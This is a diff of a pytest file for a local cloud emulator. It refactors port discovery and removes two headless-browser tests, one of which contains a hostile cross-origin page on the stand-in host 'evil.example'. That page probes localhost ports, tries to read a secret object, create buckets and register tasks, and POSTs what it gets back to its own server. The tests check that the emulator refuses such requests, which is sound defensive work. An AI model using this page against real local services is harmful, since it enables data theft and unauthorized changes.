@@ -7,17 +7,12 @@ import http.client
 import json
 import os
 import shutil
-import signal
 import stat
 import subprocess
 import sys
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
 
-import psutil
 import pytest
 
 from distributed_fiji.errors import InvalidInput
@@ -26,6 +21,7 @@ from distributed_fiji.local import doors, state
 from distributed_fiji.local.access import Cloud
 from distributed_fiji.local.doors import Door
 from distributed_fiji.local.state import CONTROL_PLANE, DATA_PLANE, MACHINES, Folders
+from tests.local.support import listening
 from tests.local.test_cloud import pids
 
 DOOR = Door("LOCALKEY", 4000)
@@ -98,19 +94,6 @@ def filled(cloud: Cloud) -> Cloud:
     return cloud
 
 
-def ports(cloud: Cloud) -> list[int]:
-    """Return every port that the cloud's processes listen on, those of their children too."""
-    processes = [psutil.Process(pid) for pid in pids(cloud).values()]
-    all_of_them = [*processes, *(child for one in processes for child in one.children(recursive=True))]
-    found = {
-        item.laddr.port
-        for one in all_of_them
-        for item in one.net_connections()
-        if item.status == psutil.CONN_LISTEN
-    }
-    return sorted(found)
-
-
 def ask(
     port: int, method: str, path: str, body: str, headers: dict[str, str]
 ) -> tuple[int, bytes, list[str]]:
@@ -125,7 +108,7 @@ def ask(
 
 def test_no_port_of_the_cloud_answers_a_stranger(filled):
     key = header(filled.state.key)
-    for port in ports(filled):
+    for port in listening(filled):
         strangers = (
             {},
             {"Authorization": header("local")},
@@ -137,7 +120,7 @@ def test_no_port_of_the_cloud_answers_a_stranger(filled):
         for headers in strangers:
             for method, path, body in ASKED:
                 assert ask(port, method, path, body, headers) == (403, b"", []), (port, method, path, headers)
-    assert len(ports(filled)) == len(filled.state.servers)
+    assert len(listening(filled)) == len(filled.state.servers)
     assert filled.client("s3").get_object(Bucket="doors-bucket", Key="secret.txt")["Body"].read() == b"secret"
 
 
@@ -249,153 +232,11 @@ def test_another_user_of_the_machine_is_not_answered_and_reads_nothing(filled, t
     with opened(filled.root.parent):
         nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
         python = [str(Path(sys.executable).resolve()), "-I", "-c", ATTACK]
-        known = [json.dumps(item) for item in (ports(filled), list(pids(filled).values()), ASKED)]
+        known = [json.dumps(item) for item in (listening(filled), list(pids(filled).values()), ASKED)]
         done = subprocess.run(
             [*nobody, *python, str(filled.root), *known], capture_output=True, text=True, cwd="/", timeout=120
         )
 
     assert done.returncode == 0, done.stderr
     got = json.loads(done.stdout)
-    assert got == {"uid": 65534, "read": 0, "answered": 0, "asked": 4 * len(ASKED) * len(ports(filled))}
-
-
-BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
-
-#: A page of another origin that asks each port in every way it has, and tells its own server what it got.
-PAGE = """<!doctype html><title>Evil</title><script>
-const ports = %(ports)s, key = "%(key)s";
-const got = {asked: 0, answered: 0, read: 0, errors: 0};
-async function ask(url, options) {
-  got.asked++;
-  try {
-    const answer = await fetch(url, options);
-    const text = await answer.text();
-    if (answer.type !== "opaque" && answer.status !== 403) got.answered++;
-    got.read += text.length;
-  } catch (error) { got.errors++; }
-}
-function element(name, url) {
-  return new Promise(done => {
-    const made = document.createElement(name);
-    got.asked++;
-    made.onload = () => { if (name !== "iframe") got.answered++; done(); };
-    made.onerror = done;
-    if (name === "link") { made.rel = "stylesheet"; made.href = url; } else made.src = url;
-    document.documentElement.append(made);
-    setTimeout(done, 3000);
-  });
-}
-function socket(url) {
-  return new Promise(done => {
-    got.asked++;
-    const made = new WebSocket(url);
-    made.onopen = () => { got.answered++; done(); };
-    made.onerror = done;
-    setTimeout(done, 3000);
-  });
-}
-async function attack() {
-  const register = "Action=RegisterTaskDefinition";
-  for (const port of ports) {
-    const url = `http://127.0.0.1:${port}`;
-    for (const path of ["/", "/_local/health", "/_ministack/health", "/health", "/doors-bucket/secret.txt"]) {
-      await ask(url + path);
-      await ask(url + path, {mode: "no-cors"});
-      await ask(url + path, {headers: {Authorization: `AWS4-HMAC-SHA256 Credential=${key}/x`}});
-    }
-    await ask(url + "/doors-bucket", {method: "PUT", mode: "no-cors"});
-    await ask(url + "/evil-bucket", {method: "PUT", headers: {Authorization: `Local Credential=${key}/`}});
-    await ask(url, {method: "POST", mode: "no-cors", body: register});
-    await ask(url + "/2015-03-31/functions", {method: "POST", mode: "no-cors", body: "{}"});
-    await ask(url, {method: "POST", body: "{}", headers: {
-      "Content-Type": "application/x-amz-json-1.1",
-      "X-Amz-Target": "AmazonEC2ContainerServiceV20141113.RegisterTaskDefinition"}});
-    for (const name of ["img", "script", "link", "iframe"]) await element(name, url + "/doors-bucket/a");
-    await socket(`ws://127.0.0.1:${port}/`);
-  }
-}
-attack().finally(() => fetch("/got", {method: "POST", body: JSON.stringify(got)}));
-</script>"""
-
-
-class Evil(ThreadingHTTPServer):
-    """A web site of another origin; `got` is what its page tells it."""
-
-    def __init__(self, page: str) -> None:
-        self.got: dict[str, Any] = {}
-        self.told = threading.Event()
-        evil = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                self.send_response(200)
-                self.send_header("Content-Type", "text/html")
-                self.end_headers()
-                self.wfile.write(page.encode() if self.path == "/" else b"")
-
-            def do_POST(self) -> None:
-                evil.got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-                self.send_response(204)
-                self.end_headers()
-                evil.told.set()
-
-            def log_message(self, format: str, *args: Any) -> None:
-                """Write no line per request."""
-
-        super().__init__(("127.0.0.1", 0), Handler)
-        threading.Thread(target=self.serve_forever, daemon=True).start()
-
-
-@contextlib.contextmanager
-def browser(folder: Path, url: str, *options: str) -> Iterator[subprocess.Popen[str]]:
-    """Open a page in a headless browser, for which every name is this machine's; skip where there is none."""
-    program = next(filter(None, map(shutil.which, BROWSERS)), None)
-    if program is None:
-        pytest.skip(f"none of these browsers is installed: {', '.join(BROWSERS)}")
-    command = [
-        program,
-        "--headless",
-        "--no-sandbox",
-        "--disable-gpu",
-        "--no-first-run",
-        f"--user-data-dir={folder}",
-    ]
-    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
-    with subprocess.Popen(
-        [*command, rules, *options, url],
-        stdout=subprocess.PIPE,
-        stderr=subprocess.DEVNULL,
-        text=True,
-        start_new_session=True,
-    ) as process:
-        try:
-            yield process
-        finally:
-            with contextlib.suppress(ProcessLookupError):
-                os.killpg(process.pid, signal.SIGKILL)  # its own processes do not end with it
-
-
-@pytest.mark.thorough
-def test_a_page_in_a_real_browser_is_not_answered_and_reads_nothing(filled, tmp_path):
-    page = PAGE % {"ports": json.dumps(ports(filled)), "key": filled.state.key}
-    evil = Evil(page)
-    with browser(tmp_path, f"http://evil.example:{evil.server_address[1]}/", "--remote-debugging-port=0"):
-        assert evil.told.wait(120)
-    evil.shutdown()
-    evil.server_close()
-
-    assert evil.got["asked"] == 25 * len(ports(filled))
-    assert (evil.got["answered"], evil.got["read"]) == (0, 0)
-    assert [item["Name"] for item in filled.client("s3").list_buckets()["Buckets"]] == ["doors-bucket"]
-    assert filled.client("ecs").list_task_definitions()["taskDefinitionArns"] == []
-    assert filled.client("lambda").list_functions()["Functions"] == []
-
-
-@pytest.mark.thorough
-def test_a_name_that_was_rebound_to_this_machine_shows_a_real_browser_nothing(filled, tmp_path):
-    for port in ports(filled):
-        for path in ("", "doors-bucket/secret.txt", "_local/health", "health"):
-            with browser(tmp_path, f"http://rebound.example:{port}/{path}", "--dump-dom") as process:
-                said, _ = process.communicate(timeout=60)
-            assert "secret" not in said.replace("secret.txt", "")
-            assert "HTTP ERROR 403" in said or "<body></body>" in said, said
+    assert got == {"uid": 65534, "read": 0, "answered": 0, "asked": 4 * len(ASKED) * len(listening(filled))}
